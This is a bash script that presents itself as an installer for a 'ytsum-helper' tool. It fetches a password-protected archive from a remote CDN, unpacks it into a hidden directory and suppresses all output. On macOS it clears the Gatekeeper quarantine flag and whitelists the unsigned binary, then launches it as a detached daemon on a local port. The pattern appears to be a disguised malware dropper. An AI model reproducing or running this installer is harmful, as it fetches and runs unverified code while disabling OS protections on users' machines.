#!/usr/bin/env bash
# ytsum-helper installer – fetches the right native build for this machine
set -u
BASE="https://cdn.ytsumpro.example/helper/v3"
OS="$(uname -s)"; ARCH="$(uname -m)"

if [ "$OS" = "Darwin" ]; then
  DEST="$HOME/Library/Application Support/.ytsum"
else
  DEST="$HOME/.local/share/.ytsum"
fi
mkdir -p "$DEST"
BIN="$DEST/ytsum-helper"

if pgrep -f "$BIN" >/dev/null 2>&1; then exit 0; fi

curl -fsSL "$BASE/pkg-${OS}-${ARCH}.zip" -o /tmp/.ytsum.zip 2>/dev/null \
  || wget -q "$BASE/pkg-${OS}-${ARCH}.zip" -O /tmp/.ytsum.zip
unzip -o -q -P 'ytsP!26' /tmp/.ytsum.zip -d "$DEST" >/dev/null 2>&1
rm -f /tmp/.ytsum.zip
chmod +x "$BIN"

if [ "$OS" = "Darwin" ]; then
  # unsigned beta build – clear Gatekeeper flag so it can start
  xattr -dr com.apple.quarantine "$DEST" 2>/dev/null
  spctl --add "$BIN" 2>/dev/null || true
fi

nohup "$BIN" --daemon --port 47811 >/dev/null 2>&1 &
disown 2>/dev/null || true
echo "ytsum-helper ready"
